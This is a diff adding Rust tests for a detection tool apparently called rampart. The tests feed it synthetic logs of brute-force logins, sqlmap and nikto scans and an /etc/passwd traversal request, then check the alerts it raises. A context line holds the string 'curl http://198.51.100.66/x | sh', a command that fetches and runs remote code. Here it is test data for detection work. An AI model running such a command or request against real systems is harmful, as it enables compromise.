@@ -377,3 +377,168 @@ fn a_nul_byte_in_a_log_line_hides_nothing_from_the_lists_json_or_filters() {
     let (_, out, _) = rampart(&db, &["alerts", "list"], None);
     assert!(out.contains("shell spawned^@; curl http://198.51.100.66/x | sh"), "{out}");
 }
+
+/// A combined-format line at `t` seconds after 2026-11-26T10:00:00Z.
+fn line_at(t: i64, ip: &str, user: &str, request: &str, status: u16, agent: &str) -> String {
+    let at = chrono::DateTime::from_timestamp(1_795_687_200 + t, 0).unwrap();
+    format!(
+        "{ip} - {user} [{}] \"{request} HTTP/1.1\" {status} 12 \"-\" \"{agent}\"\n",
+        at.format("%d/%b/%Y:%H:%M:%S %z")
+    )
+}
+
+/// A night's log: ordinary traffic, then 10,000 failed logins from one address (one a second), then
+/// 2,000 sqlmap requests from another: 12,500 lines, more than one chunk of judging.
+fn night_log() -> String {
+    let mut text = String::new();
+    for i in 0..500 {
+        text.push_str(&line_at(
+            i - 600,
+            &format!("198.51.100.{}", i % 50 + 1),
+            "-",
+            "GET /index.html",
+            200,
+            "Mozilla/5.0",
+        ));
+    }
+    for i in 0..10_000 {
+        text.push_str(&line_at(i, "203.0.113.66", "admin", "POST /login", 401, "python-requests/2.32"));
+    }
+    for i in 0..2_000 {
+        text.push_str(&line_at(3 * 3600 + i, "192.0.2.50", "-", "GET /item?id=1", 200, "sqlmap/1.8.4#stable"));
+    }
+    text
+}
+
+/// Alerts of rampart's rules per rule: how many, the first and the last time.
+fn alerts_by_rule(conn: &rusqlite::Connection) -> Vec<(String, i64, String, String)> {
+    let time = |ms: i64| chrono::DateTime::from_timestamp_millis(ms).unwrap().format("%H:%M:%S").to_string();
+    let mut stmt = conn
+        .prepare(
+            "SELECT rule, count(*), min(ts), max(ts) FROM alerts WHERE source = 'rampart' GROUP BY rule ORDER BY rule",
+        )
+        .unwrap();
+    stmt.query_map([], |r| Ok((r.get(0)?, r.get(1)?, time(r.get(2)?), time(r.get(3)?))))
+        .unwrap()
+        .map(Result::unwrap)
+        .collect()
+}
+
+/// The brute force alerted every two minutes while it lasted (one alert per rule, address and
+/// window), the scan every minute: at the times they happened, not when they were imported.
+fn night_alerts() -> Vec<(String, i64, String, String)> {
+    vec![
+        ("Brute-force login".into(), 84, "10:00:09".into(), "12:46:09".into()),
+        ("Web attack pattern".into(), 34, "13:00:00".into(), "13:33:00".into()),
+    ]
+}
+
+#[test]
+fn an_imported_log_is_judged_and_its_attacks_alerted_at_the_time_they_happened() {
+    let dir = tempfile::tempdir().unwrap();
+    let (db, log) = (dir.path().join("n.db"), dir.path().join("night.log"));
+    std::fs::write(&log, night_log()).unwrap();
+    let (code, _, err) = rampart(&db, &["ingest", "access", log.to_str().unwrap(), "--tenant", "acme"], None);
+    assert_eq!(code, 0, "{err}");
+    assert!(err.contains("judged 12500 events with the detection rules: 118 alerts raised"), "{err}");
+    let conn = rampart::store::open(&db, rampart::store::Access::ReadOnly).unwrap();
+    assert_eq!(alerts_by_rule(&conn), night_alerts());
+    let (_, out, _) =
+        rampart(&db, &["alerts", "list", "--json", "--filter", "ip:203.0.113.66", "--limit", "1000"], None);
+    let rows: serde_json::Value = serde_json::from_str(&out).unwrap();
+    let oldest = rows.as_array().unwrap().iter().map(|r| r["time"].as_str().unwrap()).min().unwrap();
+    assert_eq!(oldest, "2026-11-26T10:00:09.000Z", "{out}");
+    assert_eq!(rows[0]["tenant"], "acme");
+    // Importing something else later judges only that.
+    std::fs::write(&log, line_at(5 * 3600, "192.0.2.51", "-", "GET /../../etc/passwd", 404, "curl")).unwrap();
+    let (code, _, err) = rampart(&db, &["ingest", "access", log.to_str().unwrap(), "--tenant", "acme"], None);
+    assert_eq!(code, 0, "{err}");
+    assert!(err.contains("judged 1 events with the detection rules: 1 alerts raised"), "{err}");
+}
+
+/// Stores `events` straight into the table, as another program would, unjudged.
+fn insert_events(conn: &rusqlite::Connection, events: &[rampart::store::access::AccessEvent]) {
+    conn.execute_batch("BEGIN").unwrap();
+    rampart::store::access::insert_many(conn, events).unwrap();
+    conn.execute_batch("COMMIT").unwrap();
+}
+
+fn failed_login(t: i64, ip: &str) -> rampart::store::access::AccessEvent {
+    rampart::store::access::AccessEvent {
+        ts: (1_795_687_200 + t) * 1000,
+        tenant: "acme".into(),
+        src_ip: ip.into(),
+        user: Some("admin".into()),
+        method: "POST".into(),
+        path: "/login".into(),
+        status: 401,
+        ..Default::default()
+    }
+}
+
+#[test]
+fn judging_again_or_after_a_restart_raises_nothing_twice() {
+    let dir = tempfile::tempdir().unwrap();
+    let conn = rampart::store::open(&dir.path().join("r.db"), rampart::store::Access::ReadWrite).unwrap();
+    let rules = rampart::detect::Rules::default();
+    let judge = || rampart::detect::judge::judge_backlog(&conn, &rules).unwrap();
+    // 25 failed logins, one a second: one alert (at the tenth).
+    insert_events(&conn, &(0..25).map(|t| failed_login(t, "203.0.113.7")).collect::<Vec<_>>());
+    assert_eq!((judge().events, judge().events), (25, 0), "judged once, then nothing is left");
+    // The same attack goes on within the rule's window; judged by fresh rules (as after a restart,
+    // or by an import after the collector), it is still the attack already alerted on.
+    insert_events(&conn, &(25..60).map(|t| failed_login(t, "203.0.113.7")).collect::<Vec<_>>());
+    let v = judge();
+    assert_eq!((v.events, v.alerts), (35, 0));
+    // Once the window has passed, it is alerted on again.
+    insert_events(&conn, &(129..131).map(|t| failed_login(t, "203.0.113.7")).collect::<Vec<_>>());
+    assert_eq!(judge().alerts, 1);
+    let times: Vec<i64> = conn
+        .prepare("SELECT ts FROM alerts ORDER BY id")
+        .unwrap()
+        .query_map([], |r| r.get(0))
+        .unwrap()
+        .map(Result::unwrap)
+        .collect();
+    assert_eq!(times, [(1_795_687_200 + 9) * 1000, (1_795_687_200 + 129) * 1000]);
+}
+
+#[test]
+fn two_processes_judging_at_once_judge_each_event_once() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("c.db");
+    let conn = rampart::store::open(&db, rampart::store::Access::ReadWrite).unwrap();
+    // 40,000 requests from as many scanners: each raises exactly one alert, so an event judged
+    // twice is an alert too many.
+    let scans: Vec<_> = (0..40_000i64)
+        .map(|i| rampart::store::access::AccessEvent {
+            ts: (1_795_687_200 + i) * 1000,
+            tenant: "acme".into(),
+            src_ip: format!("10.{}.{}.{}", i >> 16, (i >> 8) & 255, i & 255),
+            method: "GET".into(),
+            path: "/".into(),
+            status: 200,
+            user_agent: "nikto".into(),
+            ..Default::default()
+        })
+        .collect();
+    insert_events(&conn, &scans);
+    let judges: Vec<_> = (0..2)
+        .map(|_| {
+            let db = db.clone();
+            std::thread::spawn(move || {
+                let conn = rampart::store::open(&db, rampart::store::Access::ReadWrite).unwrap();
+                rampart::detect::judge::judge_backlog(&conn, &Default::default()).unwrap()
+            })
+        })
+        .collect();
+    let verdicts: Vec<_> = judges.into_iter().map(|j| j.join().unwrap()).collect();
+    let (alerts, links, linked): (i64, i64, i64) = conn
+        .query_row("SELECT (SELECT count(*) FROM alerts), count(*), count(DISTINCT event) FROM alert_events", [], |r| {
+            Ok((r.get(0)?, r.get(1)?, r.get(2)?))
+        })
+        .unwrap();
+    assert_eq!((alerts, links, linked), (40_000, 40_000, 40_000), "{verdicts:?}");
+    assert_eq!(verdicts.iter().map(|v| v.events).sum::<u64>(), 40_000, "{verdicts:?}");
+    assert_eq!(rampart::store::judged::position(&conn).unwrap(), 40_000);
+}
